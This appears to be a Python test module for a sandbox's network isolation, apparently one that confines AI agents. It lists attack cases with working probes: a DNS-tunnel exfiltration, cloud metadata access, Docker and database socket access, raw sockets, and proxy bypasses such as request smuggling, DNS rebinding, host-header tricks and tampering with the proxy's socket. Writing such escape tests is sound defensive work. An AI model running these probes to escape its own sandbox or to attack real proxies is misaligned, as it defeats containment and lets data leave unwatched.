"""Attacks by way of the network, of local sockets, and around the proxy that opens a few hosts."""

from __future__ import annotations

from sandbox.contract import Result
from sandbox.guarantees import Guarantee
from tests.sandbox.attack.case import Case, bash, mark_shows, python, says_so
from tests.sandbox.attack.world import World

NETWORK = frozenset({Guarantee.NO_NETWORK})
SOCKETS = frozenset({Guarantee.HOST_SOCKETS_HIDDEN})
EGRESS = frozenset({Guarantee.EGRESS_ALLOW_LIST})
SYSCALLS = frozenset({Guarantee.SYSCALLS_FILTERED})


def visited(*kinds: str):
    def came(world: World, result: Result) -> bool:
        return bool(set(kinds) & set(world.services.visits)) or mark_shows(world, result)

    return came


def smuggled(world: World, result: Result) -> bool:
    return any(
        "unlisted" in request or "/second" in request for request in world.services.requests
    ) or mark_shows(world, result)


CAME = "a service of the host counts a visit"
PROXY = "curl -s -m 5 -x http://127.0.0.1:3128"
OPEN = f"{PROXY} -o /dev/null -w '%{{http_code}}'"
ASK = "exec 5<>/dev/tcp/127.0.0.1/3128 && printf '%b' \"$Q\" >&5 && timeout 2 cat <&5"


def through_proxy(url: str, *options: str):
    return bash(f"{PROXY} {' '.join(options)} '{url}'; {PROXY} -p {' '.join(options)} '{url}'")


def asked(text: str):
    return bash(f"Q='{text}'\n{ASK}")


CASES = (
    Case("tcp_loopback", "a port of the host's loopback", NETWORK,
         python("s = socket.create_connection(('127.0.0.1', {tcp}), 2)\nprint(s.recv(100))"),
         visited("tcp"), CAME),
    Case("tcp_by_bash", "a port by the shell's own means", NETWORK,
         bash("timeout 2 cat < /dev/tcp/127.0.0.1/{tcp}"), visited("tcp"), CAME),
    Case("tcp_six", "a port of the host's IPv6 loopback", NETWORK,
         python("s = socket.create_connection(('::1', {tcp6}), 2)\nprint(s.recv(100))"),
         visited("tcp6"), CAME, open_field=False),
    Case("tcp_host_address", "a port by the host's other addresses", NETWORK,
         python("""
for name in ('0.0.0.0', socket.gethostname(), '127.0.1.1', '127.255.255.254'):
    try: print(socket.create_connection((name, {tcp}), 2).recv(100))
    except OSError as problem: print(problem)
"""), visited("tcp"), CAME),
    Case("udp", "a datagram to the host", NETWORK,
         python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "s.sendto(b'x', ('127.0.0.1', {udp}))\ntime.sleep(0.1)"), visited("udp"), CAME),
    Case("dns_tunnel", "carrying text out in a question for a name", NETWORK,
         python(r"""
question = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\x06stolen\x07example\x00' + b'\0\x01\0\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(question, ('127.0.0.1', {udp}))
time.sleep(0.1)
"""), visited("udp"), CAME),
    Case("dns_lookup", "resolving a name", NETWORK,
         bash("timeout 3 getent ahosts example.com && echo {IN}; timeout 3 getent ahosts dns.google "
              "&& echo {IN}"), says_so, open_field=False),
    Case("metadata_address", "the cloud's metadata address", NETWORK,
         python("""
try: socket.create_connection(('169.254.169.254', 80), 2); got_in()
except OSError as problem:
    print(problem)
    if isinstance(problem, TimeoutError): got_in('sent')
"""), says_so, open_field=False),
    Case("interfaces", "the host's network interfaces", NETWORK,
         python("names = [name for _, name in socket.if_nameindex()]\n"
                "if set(names) - {'lo', 'tunl0', 'sit0', 'ip6tnl0', 'gre0', 'gretap0', 'erspan0', "
                "'ip_vti0', 'ip6_vti0', 'ip6gre0'}: got_in(names)"), says_so, open_field=False),
    Case("raw_socket", "sending packets of one's own making", NETWORK,
         python("""
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    try: socket.socket(family, kind, 1); got_in(family)
    except OSError as problem: print(problem)
"""), says_so, root_only=True),
    Case("machine_socket", "the socket between a virtual machine and its host", SYSCALLS,
         python("""
for family in (40, 38, 21, 31):  # vsock, kernel crypto, RDS, Bluetooth
    try: socket.socket(family, socket.SOCK_STREAM if family != 38 else socket.SOCK_SEQPACKET)
    except OSError as problem: print(family, problem)
    else: got_in(family)
"""), says_so, open_field=False),
    Case("unix_socket", "a local service by its path", SOCKETS,
         python("s = socket.socket(socket.AF_UNIX)\ns.connect('{unix}')\nprint(s.recv(100))"),
         visited("unix"), CAME),
    Case("unix_socket_by_link", "a local service by a link in the workspace", SOCKETS,
         python("os.symlink('{unix}', 's')\ns = socket.socket(socket.AF_UNIX)\ns.connect('s')\n"
                "print(s.recv(100))"), visited("unix"), CAME),
    Case("abstract_socket", "a local service without a path", SOCKETS,
         python("s = socket.socket(socket.AF_UNIX)\ns.connect('\\0{abstract}')\nprint(s.recv(100))"),
         visited("abstract"), CAME),
    Case("redirected_pair", "a pair of sockets pointed at a local service", SOCKETS,
         python("one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
                "one.sendto(b'x', '{datagrams}')\ntime.sleep(0.1)"),
         visited("unix datagram"), CAME, open_field=False),
    Case("common_services", "databases, Redis, Docker and system services", SOCKETS,
         python("""
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/redis/redis-server.sock',
             '/run/postgresql/.s.PGSQL.5432', '/var/run/postgresql/.s.PGSQL.5432',
             '/run/dbus/system_bus_socket', '/run/systemd/private', '/dev/log',
             '/run/containerd/containerd.sock', '/run/podman/podman.sock'):
    try: s = socket.socket(socket.AF_UNIX); s.connect(path); got_in(path)
    except OSError as problem: print(path, problem)
"""), says_so, open_field=False),
    Case("system_v_memory", "shared memory of another program", frozenset({Guarantee.PROCESSES_ISOLATED}),
         python("""
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget({memory_key}, 4096, 0), None, 0o10000)
if place and place < 2**63: print(ctypes.string_at(place, 64))
"""), open_field=False),
    # --- with a proxy that opens a few hosts ---
    Case("egress_direct", "going round the proxy", EGRESS,
         bash("unset http_proxy HTTP_PROXY; curl -s -m 3 --noproxy '*' http://127.0.0.1:{web}/inner; "
              "timeout 2 cat < /dev/tcp/127.0.0.1/{tcp}; curl -s -m 3 --noproxy '*' "
              "http://good.example/"), visited("tcp", "web"), CAME, network=True),
    Case("egress_unlisted", "a host that is not listed", EGRESS,
         through_proxy("http://unlisted.example/"), network=True, open_field=False),
    Case("egress_other_port", "another port of a listed host", EGRESS,
         through_proxy("http://good.example:8080/inner"), network=True, open_field=False),
    Case("egress_address", "an address instead of a name", EGRESS,
         bash(f"for a in 127.0.0.1 93.184.216.34 [::1] 0x7f000001 2130706433 127.1 0177.0.0.1 "
              f"[::ffff:127.0.0.1]; do {PROXY} http://$a:{{web}}/inner; {PROXY} http://$a/inner; "
              "done"), network=True, open_field=False),
    Case("egress_name_of_loopback", "a listed name that stands for this machine", EGRESS,
         through_proxy("http://loop.example/inner"), visited("web"), CAME, network=True,
         open_field=False),
    Case("egress_name_of_private", "a listed name that stands for a private address", EGRESS,
         bash(f"{OPEN} http://private.example/ | grep -v 403 | grep -q . && "
              "echo {IN}"), says_so, network=True, open_field=False),
    Case("egress_name_of_metadata", "a listed name that stands for the metadata address", EGRESS,
         bash(f"{OPEN} http://meta.example/ | grep -v 403 | grep -q . && "
              "echo {IN}"), says_so, network=True, open_field=False),
    Case("egress_mixed_answer", "a listed name that stands for good and bad at once", EGRESS,
         through_proxy("http://mixed.example/inner"), visited("web"), CAME, network=True,
         open_field=False),
    Case("egress_mapped_address", "a bad address in the clothes of another family", EGRESS,
         through_proxy("http://mapped.example/inner"), visited("web"), CAME, network=True,
         open_field=False),
    Case("egress_rebinding", "a name that changes after it was judged", EGRESS,
         bash(f"for i in 1 2 3 4 5 6; do {PROXY} http://rebind.example:80/{{mine}}; done"),
         lambda w, r: any("/inner" in q for q in w.services.requests) or mark_shows(w, r),
         network=True, open_field=False),
    Case("egress_redirect", "a listed host that leads to this machine", EGRESS,
         bash(f"{PROXY} -L http://good.example/redirect"), network=True, open_field=False),
    Case("egress_method", "a method that is not listed", EGRESS,
         bash(f"{PROXY} -X POST -d x http://readonly.example/post; {PROXY} -X DELETE "
              "http://readonly.example/"),
         lambda w, _r: any("POST" in q or "DELETE" in q for q in w.services.requests),
         "the host gets the request", network=True, open_field=False),
    Case("egress_tunnel_for_method", "a tunnel to hide the method in", EGRESS,
         asked("CONNECT readonly.example:80 HTTP/1.1\\r\\n\\r\\n"),
         lambda _w, r: " 200 " in r.stdout.text, "the tunnel is opened", network=True,
         open_field=False),
    Case("egress_other_host_inside", "another host's name inside an allowed request", EGRESS,
         asked("GET http://good.example/ HTTP/1.1\\r\\nHost: unlisted.example\\r\\n\\r\\n"),
         smuggled, "the host sees another name", network=True, open_field=False),
    Case("egress_second_request", "a second request hidden behind an allowed one", EGRESS,
         asked("GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
               "GET /second HTTP/1.1\\r\\nHost: unlisted.example\\r\\n\\r\\n"),
         smuggled, "the host gets a second request", network=True, open_field=False),
    Case("egress_two_lengths", "a body whose length is told twice", EGRESS,
         asked("POST http://good.example/ HTTP/1.1\\r\\nContent-Length: 4\\r\\n"
               "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n\\r\\n"),
         smuggled, "the host gets a second request", network=True, open_field=False),
    Case("egress_header_lines", "line ends inside a header", EGRESS,
         asked("GET http://good.example/ HTTP/1.1\\r\\nX: a\\nHost: unlisted.example\\r\\n\\r\\n"),
         smuggled, "the host sees another name", network=True, open_field=False),
    Case("egress_user_part", "a host's name where a user's name belongs", EGRESS,
         asked("GET http://good.example@127.0.0.1:{web}/inner HTTP/1.1\\r\\n\\r\\n"),
         visited("web"), CAME, network=True, open_field=False),
    Case("egress_socket_file", "putting something else in the place of the proxy's socket",
         frozenset({Guarantee.EGRESS_ALLOW_LIST, Guarantee.FS_WRITE_CONFINED}),
         bash("rm -f /run/agentsite/egress.sock; echo x > /run/agentsite/forwarder.py; "
              "mv /run/agentsite /run/other && echo {IN}; test -S /run/agentsite/egress.sock || "
              "echo {IN}"), says_so, network=True, open_field=False),
    Case("packet_socket", "packets below every protocol", NETWORK,
         python("""
for family, kind in ((17, socket.SOCK_RAW), (17, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_RAW)):
    try: socket.socket(family, kind, 3); got_in(family, kind)
    except OSError as problem: print(problem)
"""), says_so, open_field=False),
    Case("metadata_address_six", "the metadata addresses of other clouds", NETWORK,
         python("""
for address in ('fd00:ec2::254', 'fe80::a9fe:a9fe%lo', '100.100.100.200', '192.0.0.192', 'fec0::1'):
    try: socket.create_connection((address, 80), 1); got_in(address)
    except TimeoutError: got_in('sent', address)
    except OSError as problem: print(problem)
"""), says_so, open_field=False),
    Case("udp_six", "a datagram out by IPv6, and one to everybody", NETWORK,
         python("""
for address in ('2001:db8::1', 'ff02::1%lo'):
    try:
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', (address, 53))
        if '%' not in address: got_in(address)
    except OSError as problem: print(problem)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b'x', ('255.255.255.255', {udp}))
    got_in('broadcast')
except OSError as problem: print(problem)
"""), says_so, open_field=False),
    Case("fast_open", "data with the first packet, without connecting", NETWORK,
         python("s = socket.socket()\ns.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', 0x20000000, "
                "('127.0.0.1', {tcp}))\ntime.sleep(0.1)"), visited("tcp"), CAME, open_field=False),
    Case("egress_proxies_ignored", "a program that is told to use no proxy", EGRESS,
         bash("export NO_PROXY='*' no_proxy='*'; for v in '' http_proxy= 'http_proxy= https_proxy='; do "
              "env $v curl -s -m 2 --noproxy '*' http://127.0.0.1:{web}/unlisted; "
              "env $v curl -s -m 2 http://unlisted.example/unlisted; done"),
         smuggled, network=True, open_field=False),
    Case("egress_own_ports", "the server's own ports through the proxy", EGRESS,
         bash("; ".join(f"{PROXY} 'http://{host}:{{web}}/unlisted'; {PROXY} -p 'http://{host}:{{web}}/unlisted'"
                        for host in ("localhost", "127.0.0.1", "2130706433", "0x7f.1", "127.1", "0",
                                     "[::1]", "[::ffff:127.0.0.1]", "good.example"))),
         smuggled, network=True, timeout=60, open_field=False),
    Case("egress_through_itself", "the proxy asked to ask itself", EGRESS,
         asked(r"CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: good.example\r\n\r\n"
               r"GET http://127.0.0.1/unlisted HTTP/1.1\r\n\r\n"), smuggled, network=True, open_field=False),
    Case("egress_other_protocols", "the proxy spoken to as if it were another", EGRESS,
         bash("curl -s -m 3 --socks5-hostname 127.0.0.1:3128 http://127.0.0.1:{web}/unlisted; "
              "curl -s -m 3 --socks4a 127.0.0.1:3128 http://127.0.0.1:{web}/unlisted; "
              "curl -s -m 3 -x http://127.0.0.1:3128 ftp://127.0.0.1:{web}/unlisted"),
         smuggled, network=True, open_field=False),
)  # fmt: skip
